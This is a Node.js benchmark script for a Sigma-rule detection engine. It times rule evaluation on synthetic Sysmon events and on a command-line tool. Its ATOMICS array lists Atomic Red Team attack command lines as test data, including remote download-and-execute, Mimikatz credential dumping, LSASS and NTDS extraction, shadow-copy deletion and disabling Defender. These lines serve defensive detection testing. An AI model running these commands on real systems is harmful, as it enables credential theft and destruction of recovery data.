// The Sigma engine per route: for each kind of event (process creation, registry, file, network,
// DNS, ... in Sysmon and SentinelOne form), how many of the SigmaHQ rules/windows rules the
// prefilter leaves to evaluate per event, next to the rules the route holds, and events/s for
// decode alone, decode + rules and the rules' own share. Then the product on Atomic-style Sysmon
// process creation events from a file: the built CLI with --rules and --hits-only, and without.
// Prints figures only. Build first (npm run build); run: NODE_ENV=production node bench/sigma-routes.js
// SIGMA_BENCH_CORPUS: a rules folder (default: windows/ of EDRTAIL_SIGMA_RULES or ../shared/sigma/rules);
// SIGMA_BENCH_ATOMIC: Atomic-style events (default 50,000); SIGMA_BENCH_WRITE: also keep them in this
// NDJSON file; SIGMA_BENCH_CLI=0: skip the CLI runs. Times are CPU time of this single-threaded
// process (best of SIGMA_BENCH_PASSES): on a shared machine wall time mostly measures the neighbours.
// Over 300 lines by design: mostly data (the Atomic Red Team command lines), one benchmark.
import {spawnSync} from 'node:child_process';
import {createHash} from 'node:crypto';
import {mkdtempSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {dirname, join, resolve} from 'node:path';
import {fileURLToPath} from 'node:url';
import {decodeRecord} from '../dist/source/core/formats/index.js';
import {loadRules} from '../dist/source/core/rules/index.js';
import {generateDemoRecords} from '../dist/source/core/demo/index.js';

const here = dirname(fileURLToPath(import.meta.url));
const RULES = resolve(here, '..', process.env.EDRTAIL_SIGMA_RULES || '../shared/sigma/rules');
const CORPUS = process.env.SIGMA_BENCH_CORPUS ?? join(RULES, 'windows');
const ATOMIC = Number(process.env.SIGMA_BENCH_ATOMIC ?? 50_000);
const PASSES = Number(process.env.SIGMA_BENCH_PASSES ?? 3);
const DEMO_EVENTS = Number(process.env.SIGMA_BENCH_EVENTS ?? 40_000);

function isDirectory(path) {
	try {
		return statSync(path).isDirectory();
	} catch {
		return false;
	}
}

const cpuMs = () => {
	const u = process.cpuUsage();
	return (u.user + u.system) / 1000;
};

// ---- Atomic-style Sysmon process creation: the demo's Windows process creations (benign noise
// and its Atomic runs) mixed with a fifth of Atomic Red Team command lines, on varied parents,
// users, hosts and hashes; flat Sysmon JSON as Atomic Red Team's sample logs write it (~900 bytes).

let seed = 12345;
const rnd = () => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) / 2 ** 32;
const pick = list => list[Math.floor(rnd() * list.length)];
const S32 = 'C:\\Windows\\System32';
const PS = `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const RAW = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics';
const ATOMICS = [
	[`${S32}\\regsvr32.exe`, `regsvr32.exe /s /u /i:${RAW}/T1218.010/src/RegSvr32.sct scrobj.dll`],
	[
		`${S32}\\bitsadmin.exe`,
		`bitsadmin.exe /transfer /Download /priority Foreground ${RAW}/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1`,
	],
	[`${S32}\\certutil.exe`, `certutil.exe -urlcache -split -f ${RAW}/T1105/T1105.yaml Atomic-license.txt`],
	[`${S32}\\vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet'],
	[`${S32}\\wbem\\WMIC.exe`, 'wmic.exe shadowcopy delete'],
	[`${S32}\\bcdedit.exe`, 'bcdedit.exe /set {default} recoveryenabled no'],
	[
		`${S32}\\rundll32.exe`,
		'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
	],
	[
		`${S32}\\reg.exe`,
		'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Atomic /t REG_SZ /d "C:\\Path\\AtomicRedTeam.exe" /f',
	],
	[`${S32}\\reg.exe`, 'reg save HKLM\\sam %temp%\\sam'],
	[`${S32}\\reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'],
	[`${S32}\\schtasks.exe`, 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"'],
	[`${S32}\\net.exe`, 'net user /add T1136.001_Admin T1136_pass'],
	[`${S32}\\net1.exe`, 'C:\\Windows\\system32\\net1 localgroup administrators T1136.001_Admin /add'],
	[`${S32}\\whoami.exe`, 'whoami /all'],
	[`${S32}\\nltest.exe`, 'nltest /domain_trusts /all_trusts'],
	[`${S32}\\mshta.exe`, `mshta.exe javascript:a=(GetObject('script:${RAW}/T1218.005/src/mshta.sct')).Exec();close();`],
	[
		PS,
		'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1\'); Invoke-Mimikatz -DumpCreds"',
	],
	[PS, 'powershell.exe -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA=='],
	[PS, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'],
	[PS, '"powershell.exe" & {Get-Process lsass | Out-Minidump -DumpFilePath $env:TEMP}'],
	[
		`${S32}\\cmd.exe`,
		'cmd.exe /c "C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp"',
	],
	[`${S32}\\cmd.exe`, 'cmd.exe /c wevtutil cl System'],
	[`${S32}\\cmd.exe`, 'cmd.exe /c "ping -n 1 127.0.0.1 > nul & del /f /q %temp%\\T1070.004.txt"'],
	[
		'C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe',
		'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp',
	],
	['C:\\Users\\Public\\mimikatz.exe', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
	[
		`${S32}\\sc.exe`,
		'sc.exe create AtomicService binPath= "C:\\AtomicRedTeam\\atomics\\T1543.003\\bin\\AtomicService.exe"',
	],
	[`${S32}\\netsh.exe`, 'netsh advfirewall set currentprofile state off'],
	[`${S32}\\attrib.exe`, 'attrib.exe +h C:\\Users\\Public\\T1564.001.txt'],
	[`${S32}\\fsutil.exe`, 'fsutil usn deletejournal /D C:'],
	[`${S32}\\wbem\\WMIC.exe`, 'wmic /node:localhost process call create "cmd.exe /c calc.exe"'],
	[`${S32}\\msiexec.exe`, `msiexec.exe /q /i ${RAW}/T1218.007/bin/T1218.007_JScript.msi`],
	[`${S32}\\cscript.exe`, 'cscript.exe //nologo C:\\AtomicRedTeam\\atomics\\T1059.005\\src\\sys_info.vbs'],
	[`${S32}\\tasklist.exe`, 'tasklist /v /fi "imagename eq lsass.exe"'],
	[`${S32}\\quser.exe`, 'quser /SERVER:localhost'],
	[`${S32}\\ipconfig.exe`, 'ipconfig /all'],
	[`${S32}\\systeminfo.exe`, 'systeminfo'],
	[`${S32}\\esentutl.exe`, 'esentutl.exe /y /vss C:\\Windows\\NTDS\\NTDS.dit /d C:\\Windows\\Temp\\ntds.dit'],
	[`${S32}\\ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q'],
	[`${S32}\\forfiles.exe`, 'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe'],
	[`${S32}\\wscript.exe`, 'wscript.exe C:\\Users\\Public\\T1059.007.js'],
];
const WINWORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const PARENTS = [
	[PS, `"${PS}" `],
	[`${S32}\\cmd.exe`, 'cmd.exe /c'],
	['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
	[WINWORD, `"${WINWORD}" /n "C:\\Users\\x\\Downloads\\invoice.docm"`],
	[`${S32}\\wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'],
	[`${S32}\\svchost.exe`, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
];
const USERS = [
	'CORP\\alice',
	'CORP\\bob.admin',
	'NT AUTHORITY\\SYSTEM',
	'WS-FIN-01\\Administrator',
	'CORP\\svc_backup',
];
const HOSTS = ['WS-FIN-01.corp.example', 'WS-HR-07.corp.example', 'SRV-DC-01.corp.example', 'WS-DEV-12.corp.example'];
const hex = (alg, text) => createHash(alg).update(text).digest('hex').toUpperCase();

/** The fields of a Sysmon event 1 as the flat JSON shape spells them. */
function flat(o) {
	const keys = [
		'Computer',
		'UtcTime',
		'ProcessId',
		'Image',
		'FileVersion',
		'Description',
		'Product',
		'Company',
		'OriginalFileName',
		'CommandLine',
		'CurrentDirectory',
		'User',
		'LogonId',
		'IntegrityLevel',
		'Hashes',
		'ParentProcessId',
		'ParentImage',
		'ParentCommandLine',
		'ParentUser',
	];
	const out = {EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational'};
	for (const k of keys) if (o[k] !== undefined) out[k] = o[k];
	return out;
}

export function atomicProcessCreation(count) {
	const demo = [];
	for (let s = 1; demo.length < count; s++) {
		for (const r of generateDemoRecords(Math.max(20_000, count), {format: 'sysmon', seed: s})) {
			for (const line of r.value.toString().split('\n')) {
				if (!line) continue;
				const o = JSON.parse(line);
				const sys = o.Event?.System;
				if (sys?.EventID !== 1 || !sys.Channel.startsWith('Microsoft')) continue;
				demo.push(flat({Computer: sys.Computer, ...o.Event.EventData}));
			}
		}
	}
	const lines = [];
	let di = 0;
	let t = Date.UTC(2024, 5, 12, 9);
	while (lines.length < count) {
		t += 7;
		if (rnd() < 0.8) {
			lines.push(JSON.stringify(demo[di++]));
			continue;
		}
		const [image, cmd] = pick(ATOMICS);
		const [parentImage, parentCmd] = pick(PARENTS);
		const user = pick(USERS);
		const name = image.slice(image.lastIndexOf('\\') + 1);
		const hashed = image + (rnd() < 0.3 ? rnd() : '');
		const event = {
			Computer: pick(HOSTS),
			UtcTime: new Date(t).toISOString().replace('T', ' ').slice(0, 23),
			ProcessId: 1000 + Math.floor(rnd() * 60000),
			Image: image,
			FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
			Description: name.replace('.exe', ''),
			Product: 'Microsoft® Windows® Operating System',
			Company: 'Microsoft Corporation',
			OriginalFileName: name,
			CommandLine: cmd,
			CurrentDirectory: rnd() < 0.5 ? 'C:\\AtomicRedTeam\\' : `C:\\Users\\${user.split('\\')[1]}\\`,
			User: user,
			LogonId: `0x${Math.floor(rnd() * 1e7).toString(16)}`,
			IntegrityLevel: pick(['High', 'Medium', 'System']),
			Hashes: `SHA1=${hex('sha1', hashed)},MD5=${hex('md5', hashed)},SHA256=${hex('sha256', hashed)}`,
			ParentProcessId: 1000 + Math.floor(rnd() * 60000),
			ParentImage: parentImage,
			ParentCommandLine: parentCmd,
			ParentUser: user,
		};
		lines.push(JSON.stringify(flat(event)));
	}
	return lines;
}

// ---- per route

const ROUTE_NAMES = {
	'Process Creation': 'process_creation',
	'Process Termination': 'process_termination',
	'File Creation': 'file',
	'File Modification': 'file',
	'File Deletion': 'file',
	'File Rename': 'file',
	'TCPv4 Connection': 'network',
	'HTTP Request': 'network',
	DNS: 'dns',
};
const routeName = ev =>
	ROUTE_NAMES[ev.category] ?? (ev.category.startsWith('Registry') ? 'registry' : ev.category.toLowerCase());

function rate(events, ms) {
	return Math.round((events / ms) * 1000).toLocaleString('en-US');
}

/** The rules' share of decode + rules: '-' when it is within the noise of the decode alone. */
function share(events, bothMs, decodeMs) {
	return bothMs - decodeMs < decodeMs * 0.05 ? '-' : rate(events, bothMs - decodeMs);
}

function best(run) {
	let ms = Infinity;
	for (let i = 0; i < PASSES; i++) {
		const t0 = cpuMs();
		run();
		ms = Math.min(ms, cpuMs() - t0);
	}
	return ms;
}

const candidates = eng => eng.stats().reduce((n, s) => n + s.candidates, 0);

/** Candidate rules per event the engine evaluates over these events. */
function candidatesOn(eng, events) {
	const before = candidates(eng);
	for (const ev of events) eng.evaluate(ev);
	return (candidates(eng) - before) / events.length;
}

/** One bucket of records of one format: decode alone, decode + rules, rules' share; candidates. */
function measure(label, recs, format) {
	const decoded = recs.flatMap(r => decodeRecord(r, {format}));
	if (decoded.length === 0) return;
	// Warm up: JIT, and the engine's route groups built.
	for (const ev of decoded.slice(0, 2000)) engine.evaluate(ev);
	let hits = 0;
	for (const ev of decoded) hits += engine.evaluate(ev).length;
	const perEvent = candidatesOn(engine, decoded);
	const routeRules = candidatesOn(unfiltered, decoded.slice(0, 200));
	const decodeMs = best(() => {
		for (const r of recs) decodeRecord(r, {format});
	});
	const bothMs = best(() => {
		for (const r of recs) for (const ev of decodeRecord(r, {format})) engine.evaluate(ev);
	});
	const rulesMs = best(() => {
		for (const ev of decoded) engine.evaluate(ev);
	});
	const n = decoded.length;
	console.log(
		`${label.padEnd(34)} ${String(n).padStart(7)} ${perEvent.toFixed(1).padStart(7)} ${routeRules.toFixed(0).padStart(6)}` +
			` ${rate(n, decodeMs).padStart(9)} ${rate(n, bothMs).padStart(9)}` +
			` ${share(n, bothMs, decodeMs).padStart(9)} ${rate(n, rulesMs).padStart(9)}` +
			` ${(hits / n).toFixed(2).padStart(6)}`,
	);
}

function header() {
	const cols = [
		['events', 7],
		['cands/e', 7],
		['rules', 6],
		['decode/s', 9],
		['+rules/s', 9],
		['rules/s', 9],
		['warm/s', 9],
		['hits/e', 6],
	];
	console.log(`${'route'.padEnd(34)} ${cols.map(([name, width]) => name.padStart(width)).join(' ')}`);
}

if (!isDirectory(CORPUS)) {
	console.log(`no rules corpus at ${CORPUS}: set SIGMA_BENCH_CORPUS or EDRTAIL_SIGMA_RULES (skipped)`);
	process.exit(0);
}
const t0 = cpuMs();
const {engine, report} = loadRules([CORPUS]);
const loadMs = cpuMs() - t0;
console.log(`loaded ${report.loaded} rules (${report.builtin} built-in) from ${CORPUS} in ${loadMs.toFixed(0)} ms CPU`);
// The rules of an event's route: what the engine without a prefilter evaluates.
const unfiltered = engine.unfiltered();
console.log(
	'cands/e: rules left to evaluate per event by the prefilter; rules: rules of the route (what runs without it);',
);
console.log("decode/s, +rules/s: decode alone and decode + rules per record; rules/s: the rules' share of that;");
console.log("warm/s: the rules alone on pre-decoded events (caches warm with the engine's tables). CPU time.");
header();
const atomic = atomicProcessCreation(ATOMIC);
const atomicRecs = atomic.map(l => ({value: Buffer.from(l), receivedAt: 0, origin: 'file'}));
measure('atomic-style sysmon process_creation', atomicRecs, 'sysmon');
for (const format of ['sysmon', 's1-dv', 's1-cf2']) {
	// At the demo's default rate an s1-dv packet holds about one event: records bucket by route.
	const recs = generateDemoRecords(DEMO_EVENTS, {format});
	const buckets = new Map();
	for (const r of recs) {
		const evs = decodeRecord(r, {format});
		if (evs.length === 0) continue;
		const name = routeName(evs[0]);
		if (!buckets.has(name)) buckets.set(name, []);
		buckets.get(name).push(r);
	}
	for (const [name, list] of [...buckets].sort((a, b) => b[1].length - a[1].length)) {
		if (list.length < 200) continue;
		measure(`${format} ${name}`, list, format);
	}
}

// ---- the product: the built CLI on the Atomic-style file
if (process.env.SIGMA_BENCH_CLI !== '0') {
	const dir = mkdtempSync(join(tmpdir(), 'edrtail-sigma-bench-'));
	const file = process.env.SIGMA_BENCH_WRITE ?? join(dir, 'atomic-process-creation.ndjson');
	writeFileSync(file, `${atomic.join('\n')}\n`);
	const cli = join(here, '..', 'dist', 'cli.js');
	// The children's CPU time, where the system tells it (Linux: cutime + cstime of /proc/self/stat).
	const childCpu = () => {
		try {
			const f = readFileSync('/proc/self/stat', 'utf8').split(') ')[1].split(' ');
			return (Number(f[13]) + Number(f[14])) / 100;
		} catch {
			return undefined;
		}
	};
	const perSecond = (events, seconds) =>
		Math.round(events / seconds)
			.toLocaleString('en-US')
			.padStart(7);
	const run = (label, args, input = file, events = atomic.length) => {
		const cpu0 = childCpu();
		const start = process.hrtime.bigint();
		const r = spawnSync(process.execPath, [cli, '--file', input, '--json', '--exit-at-end', '--hits-only', ...args], {
			env: {...process.env, NODE_ENV: 'production'},
			stdio: ['ignore', 'ignore', 'pipe'],
		});
		const wall = Number(process.hrtime.bigint() - start) / 1e9;
		const cpu = cpu0 === undefined ? undefined : childCpu() - cpu0;
		const failed = r.status === 0 ? '' : ` (exit ${r.status}: ${String(r.stderr).trim().split('\n').pop()})`;
		if (events > 1) {
			const perCpu = cpu ? `, ${perSecond(events, cpu)} per CPU second (${cpu.toFixed(1)} s)` : '';
			const perWall = perSecond(events, wall);
			console.log(`${label.padEnd(44)} ${perWall} events/s wall (${wall.toFixed(1)} s)${perCpu}${failed}`);
		} else
			console.log(`${label.padEnd(44)} ${wall.toFixed(1)} s wall${cpu ? `, ${cpu.toFixed(1)} s CPU` : ''}${failed}`);
		return {wall, cpu};
	};
	const count = atomic.length.toLocaleString('en-US');
	console.log(`\nCLI on ${count} Atomic-style process creation events (${file}), rules load included:`);
	run('edrtail --json --hits-only, no rules', ['--no-builtin-rules']);
	const all = run('edrtail --json --hits-only --rules windows', ['--rules', CORPUS]);
	// The fixed cost: start and the rules' load, on a file of one event.
	const one = join(dir, 'one.ndjson');
	writeFileSync(one, `${atomic[0]}\n`);
	const fixed = run('  of which start + rules load (one event)', ['--rules', CORPUS], one, 1);
	const wall = all.wall - fixed.wall;
	const cpu = all.cpu !== undefined && fixed.cpu !== undefined ? all.cpu - fixed.cpu : undefined;
	const perCpu = cpu ? `, ${perSecond(atomic.length, cpu)} per CPU second` : '';
	console.log(`${'  the events after the load'.padEnd(44)} ${perSecond(atomic.length, wall)} events/s wall${perCpu}`);
	rmSync(dir, {recursive: true, force: true});
}
